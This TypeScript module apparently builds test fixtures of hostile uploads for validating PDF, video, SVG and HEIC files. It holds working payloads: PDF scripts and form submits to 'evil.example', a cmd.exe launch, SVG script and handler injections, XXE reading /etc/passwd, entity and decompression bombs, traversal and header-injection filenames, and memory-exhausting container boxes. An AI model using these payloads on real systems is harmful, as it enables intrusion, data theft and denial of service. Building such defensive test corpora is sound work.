import { deflateSync } from 'node:zlib';
import { Mp4OutputFormat, WebMOutputFormat } from 'mediabunny';
import { filmBytes, pdfBytes } from '../files.ts';

/** A file that somebody could upload to do harm. */
export interface HostileFile {
  harm: string;
  name: string;
  bytes: Buffer;
}

const SCRIPT = '<script>window.hostile = 1</script>';
const JS = '(app.alert(1);this.submitForm("https://evil.example/"))';
const latin1 = (text: string) => Buffer.from(text, 'latin1');
const file = (harm: string, bytes: Buffer | string, name = 'hostile.pdf'): HostileFile => ({
  harm,
  name,
  bytes: typeof bytes === 'string' ? latin1(bytes) : bytes,
});

/** What may stand before or after a file, so that it is of two kinds. */
const disguises: Record<string, string> = {
  'an HTML page': `<!doctype html><html><body>${SCRIPT}</body></html>`,
  'a script': `*/=1;window.hostile=1;/*`,
  'an SVG drawing': `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
  'an XML document': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
  'a GIF': `GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000,${SCRIPT};`,
  'a ZIP': `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000${'\u0000'.repeat(20)}index.html${SCRIPT}`,
  'a program': `MZ\u0090\u0000${SCRIPT}`,
  'an mbox': `From: a\nContent-Type: text/html\n\n${SCRIPT}`,
};

const disguised = (kind: string, bytes: Buffer, name: string) =>
  Object.entries(disguises).flatMap(([harm, text]) => [
    file(`${harm}, then ${kind}`, Buffer.concat([latin1(text), bytes]), name),
    file(`${kind}, then ${harm}`, Buffer.concat([bytes, latin1(text)]), name),
    file(`${harm} that is called ${kind}`, text, name),
  ]);

const actions: Record<string, string> = {
  'a script that runs when it is opened': `/OpenAction<</S/JavaScript/JS${JS}>>`,
  'a script in a stream': '/OpenAction<</S/JavaScript/JS 3 0 R>>',
  'a script by name': `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS${JS}>>]>>>>`,
  'a script before it is closed': `/AA<</WC<</S/JavaScript/JS${JS}>>>>`,
  'a program to launch': '/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>',
  'an address that is opened': '/OpenAction<</S/URI/URI(javascript:window.hostile=1)>>',
  'a form that is sent': '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>',
  'another document': '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>',
  'an attached page': `/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)/EF<</F 3 0 R>>>>]>>>>`,
  'a dynamic form': `/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">${SCRIPT}</xdp:xdp>)>>`,
};

const stream = (object: string, data: Buffer) =>
  Buffer.concat([
    latin1(`%PDF-1.7\n1 0 obj<<${object}/Length ${data.length}>>stream\n`),
    data,
    latin1('\nendstream endobj\n%%EOF'),
  ]);

const malformed: Record<string, Buffer | string> = {
  'only a beginning': '%PDF-',
  'a beginning and noise': `%PDF-1.7${'\u0000\u00ff'.repeat(5000)}`,
  'no pages': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>',
  'pages within themselves':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj trailer<</Root 1 0 R>>',
  'more pages than can be':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 99999999999999>>endobj trailer<</Root 1 0 R>>',
  'fewer pages than none':
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count -9>>endobj trailer<</Root 1 0 R>>',
  'deep brackets': `%PDF-1.7\n1 0 obj${'['.repeat(200_000)}`,
  'deep dictionaries': `%PDF-1.7\n1 0 obj${'<</A'.repeat(100_000)}`,
  'a stream that unpacks to a gigabyte': stream(
    '/Type/XRef/W[1 8 8]/Size 9/Filter/FlateDecode',
    deflateSync(Buffer.alloc(64 * 1024 * 1024)),
  ),
  'a stream packed twice': stream(
    '/Type/ObjStm/N 9/First 9/Filter[/FlateDecode/FlateDecode]',
    deflateSync(deflateSync(Buffer.alloc(64 * 1024 * 1024))),
  ),
  'tables that lead to one another':
    '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF',
  'half of itself': pdfBytes(9).subarray(0, 400),
};

const names = [
  '../../../etc/passwd.pdf',
  'a"; filename="b.html',
  'a\r\nSet-Cookie: a=b.pdf',
  'hostile.pdf.html',
  `${'long'.repeat(70)}.pdf`,
  '\u202efdp.exe',
  '<img src=x onerror=alert(1)>.pdf',
  '....pdf',
];

/** Documents, at least 50. */
export const hostileDocuments: HostileFile[] = [
  ...Object.entries(actions).map(([harm, catalog]) => file(harm, pdfBytes(1, catalog))),
  ...disguised('a PDF', pdfBytes(), 'hostile.pdf'),
  ...Object.entries(malformed).map(([harm, bytes]) => file(harm, bytes)),
  ...names.map((name, index) => file(`the name ${JSON.stringify(name.slice(0, 40))}`, pdfBytes(20 + index), name)),
];

const box = (type: string, ...content: (Buffer | string)[]) => {
  const bytes = Buffer.concat(content.map((part) => (typeof part === 'string' ? latin1(part) : part)));
  const head = Buffer.alloc(8);
  head.writeUInt32BE(bytes.length + 8);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, bytes]);
};
const FTYP = box('ftyp', 'isom\u0000\u0000\u0002\u0000isomiso2mp41');
const nested = (depth: number): Buffer => (depth === 0 ? Buffer.alloc(0) : box('moov', nested(depth - 1)));
const numbers = (...values: number[]) => Buffer.from(Uint32Array.from(values).buffer).swap32();

const wrongBoxes: Record<string, Buffer> = {
  'only a type': FTYP,
  'no film behind its type': Buffer.concat([FTYP, box('mdat', SCRIPT)]),
  'a box that never ends': Buffer.concat([FTYP, numbers(0), latin1('moov'), Buffer.alloc(9000)]),
  'a box larger than all files': Buffer.concat([FTYP, numbers(1), latin1('moov'), numbers(0xffffffff, 0xffffffff)]),
  'a box smaller than its head': Buffer.concat([FTYP, numbers(2), latin1('moov'), Buffer.alloc(100)]),
  'boxes within boxes': Buffer.concat([FTYP, nested(2_000)]),
  'a hundred thousand boxes': Buffer.concat([FTYP, ...Array.from({ length: 100_000 }, () => box('free'))]),
  'no time scale': Buffer.concat([FTYP, box('moov', box('mvhd', numbers(0, 0, 0, 0, 99), Buffer.alloc(80)))]),
  'more samples than bytes': Buffer.concat([
    FTYP,
    box('moov', box('trak', box('mdia', box('minf', box('stbl', box('stsz', numbers(0, 0, 0xffffffff))))))),
  ]),
  'more descriptions than bytes': Buffer.concat([
    FTYP,
    box('moov', box('trak', box('mdia', box('minf', box('stbl', box('stsd', numbers(0, 0xffffffff))))))),
  ]),
  'an EBML that ends': Buffer.from('1a45dfa3', 'hex'),
  'an EBML of endless length': Buffer.from('1a45dfa301ffffffffffffff42824477656266d', 'hex'),
};

const [film, webFilm] = [await filmBytes(new Mp4OutputFormat()), await filmBytes(new WebMOutputFormat())];

/** The same film with some of its bytes changed, always the same ones. */
const spoiled = (bytes: Buffer, seed: number) => {
  const changed = Buffer.from(bytes);
  for (let index = 40 + seed; index < changed.length; index += 61 + seed) changed[index] = (index * 31 + seed) % 256;
  return changed;
};

/** Films, at least 50. */
export const hostileFilms: HostileFile[] = [
  ...Object.entries(wrongBoxes).map(([harm, bytes]) => file(harm, bytes, 'hostile.mp4')),
  ...disguised('an MP4', film, 'hostile.mp4'),
  ...[50, 100, 200, 300, 400].map((length) => file(`the first ${length} bytes`, film.subarray(0, length), 'a.mp4')),
  ...[50, 100, 200, 300].map((length) => file(`the first ${length} bytes`, webFilm.subarray(0, length), 'a.webm')),
  ...[1, 2, 3, 4, 5, 6].map((seed) => file(`changed bytes ${seed}`, spoiled(film, seed), 'a.mp4')),
  ...[1, 2, 3, 4, 5, 6].map((seed) => file(`changed bytes ${seed}`, spoiled(webFilm, seed), 'a.webm')),
];

const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">';
const svg = (content: string, open = OPEN) => `${open}${content}</svg>`;
const uses = (levels: number, times: number) =>
  Array.from(
    { length: levels },
    (_, level) => `<g id="a${level}">${`<use href="#a${level + 1}"/>`.repeat(times)}</g>`,
  ).join('');
const EVIL = 'https://evil.example/x';

const drawings: Record<string, string> = {
  'a script': svg(SCRIPT),
  'a script of SVG by address': svg(`<script xlink:href="${EVIL}.js"/>`),
  'a script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>window.hostile=1</s:script></s:svg>`,
  'a script in a link': svg('<a href="javascript:window.hostile=1"><rect width="9" height="9"/></a>'),
  'a script in a link of XLink': svg('<a xlink:href="javascript:window.hostile=1"><text y="9">go</text></a>'),
  'a script as a data address': svg('<use href="data:image/svg+xml,<svg id=x onload=window.hostile=1>#x"/>'),
  'a handler on the root': svg('', OPEN.replace('<svg', '<svg onload="window.hostile=1"')),
  'a handler in capitals': svg('<rect ONCLICK="window.hostile=1" width="9" height="9"/>'),
  'a handler of an animation': svg('<rect><animate onbegin="window.hostile=1" attributeName="x" dur="1s"/></rect>'),
  'an animation of an address': svg(
    `<a><animate attributeName="href" to="javascript:window.hostile=1"/><text>go</text></a>`,
  ),
  'a set of a handler': svg('<rect><set attributeName="onmouseover" to="window.hostile=1"/></rect>'),
  'a handler element': svg(
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.hostile=1</handler>',
  ),
  'a foreign object': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`),
  'a foreign frame': svg(
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:1"/></foreignObject>`,
  ),
  'an element of HTML': svg(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="window.hostile=1"/>`),
  'an HTML script in its own namespace': svg(`<script xmlns="http://www.w3.org/1999/xhtml">window.hostile=1</script>`),
  'a picture elsewhere': svg(`<image href="${EVIL}.png" width="9" height="9"/>`),
  'a part elsewhere': svg(`<use href="${EVIL}.svg#a"/>`),
  'a fill elsewhere': svg(`<rect fill="url(${EVIL}#a)" width="9" height="9"/>`),
  'a fill elsewhere in a style': svg(`<rect style="fill:url(${EVIL}#a)"/>`),
  'a filter': svg(`<filter id="f"><feImage href="${EVIL}"/></filter><rect filter="url(#f)"/>`),
  'a style sheet that imports': svg(`<style>@import url(${EVIL});</style>`),
  'a style sheet that imports with a string': svg(`<style>@import "${EVIL}";</style>`),
  'a font elsewhere': svg(`<style>@font-face{font-family:a;src:url(${EVIL})}</style>`),
  'an escaped address in a style': svg(`<style>rect{fill:u\\72l(${EVIL})}</style>`),
  'a commented address in a style': svg(`<style>rect{fill:ur/**/l(${EVIL});mask:url(/**/${EVIL})}</style>`),
  'a style in pieces': svg(`<style>@im<g/>port url(${EVIL});re<g/>ct{fill:u<g/>rl(${EVIL})}</style>`),
  'a style that breaks out': svg(`<style>&lt;/style>&lt;script>window.hostile=1&lt;/script></style>`),
  'a style in CDATA that breaks out': svg(`<style><![CDATA[</style>${SCRIPT}]]></style>`),
  'a title that breaks out': svg(`<title><![CDATA[</title>${SCRIPT}]]></title>`),
  'an attribute that breaks out': svg(`<rect id="&quot;&gt;&lt;script&gt;window.hostile=1&lt;/script&gt;"/>`),
  'a style sheet by instruction': `<?xml-stylesheet href="${EVIL}.css"?>${svg('')}`,
  'a transformation by instruction': `<?xml-stylesheet type="text/xsl" href="${EVIL}.xsl"?>${svg('')}`,
  'a base': svg(
    '<rect xml:base="https://evil.example/"/>',
    OPEN.replace('<svg', '<svg xml:base="https://evil.example/"'),
  ),
  entities: `<!DOCTYPE svg [<!ENTITY a "window.hostile=1">]>${svg('<text>&a;</text>')}`,
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;&b;&b;</text>')}`,
  'a file of the server': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('<text>&a;</text>')}`,
  'a definition elsewhere': `<!DOCTYPE svg SYSTEM "${EVIL}.dtd">${svg('')}`,
  'parts that use one another': svg(`${uses(9, 10)}<rect id="a9"/>`),
  'parts that use themselves': svg('<g id="a"><use href="#a"/></g>'),
  'fills that use one another': svg(
    Array.from(
      { length: 9 },
      (_, level) => `<pattern id="p${level}">${`<rect fill="url(#p${level + 1})"/>`.repeat(10)}</pattern>`,
    ).join(''),
  ),
  'fills that use one another by class': svg(
    `<style>${Array.from({ length: 9 }, (_, level) => `.c${level}{fill:url(#p${level})}`).join('')}</style>` +
      Array.from(
        { length: 9 },
        (_, level) => `<pattern id="p${level}">${`<rect class="c${level + 1}"/>`.repeat(10)}</pattern>`,
      ).join(''),
  ),
  'many elements': svg('<g/>'.repeat(100_000)),
  'deep elements': svg(`${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}`),
  'a long path': svg(`<path d="${'M0 0h9'.repeat(100_000)}"/>`),
  'no end': `${OPEN}<g>`,
  'another root': `<svg:html xmlns:svg="http://www.w3.org/1999/xhtml">${SCRIPT}</svg:html>`,
  'no namespace': `<svg>${SCRIPT}</svg>`,
  'the namespace of HTML': `<svg xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</svg>`,
  'noise behind its end': `${svg('')}${SCRIPT}`,
  'bytes that are no text': svg('\u00ff\u00fe\u0080'),
  'UTF-7': svg('+ADw-script+AD4-window.hostile=1+ADw-/script+AD4-'),
};

/** Drawings, at least 50. */
export const hostileDrawings: HostileFile[] = Object.entries(drawings).map(([harm, text]) => file(harm, text, 'a.svg'));

/** A box of a HEIC photo that is about to take all memory, and others of the kind. */
const heic = (brand: string, content: Buffer) =>
  Buffer.concat([box('ftyp', `${brand}\u0000\u0000\u0000\u0000mif1${brand}`), content]);
const sizes = [1, 65_535, 0x7fffffff, 0xffffffff];

/** Photos in HEIC, at least 50. */
export const hostilePhotos: HostileFile[] = ['heic', 'heix', 'heim', 'heis', 'hevc', 'hevx', 'mif1', 'msf1'].flatMap(
  (brand) => [
    ...sizes.map((side) =>
      file(
        `${brand} of ${side} pixels`,
        heic(brand, box('meta', numbers(0), box('iprp', box('ipco', box('ispe', numbers(0, side, side)))))),
        'a.heic',
      ),
    ),
    file(`${brand} and a page`, heic(brand, box('mdat', SCRIPT)), 'a.heic'),
    file(`${brand} without end`, heic(brand, Buffer.concat([numbers(0), latin1('meta'), Buffer.alloc(500)])), 'a.heic'),
    file(`${brand} of many items`, heic(brand, box('meta', numbers(0), box('iinf', numbers(0, 0xffffffff)))), 'a.heic'),
  ],
);
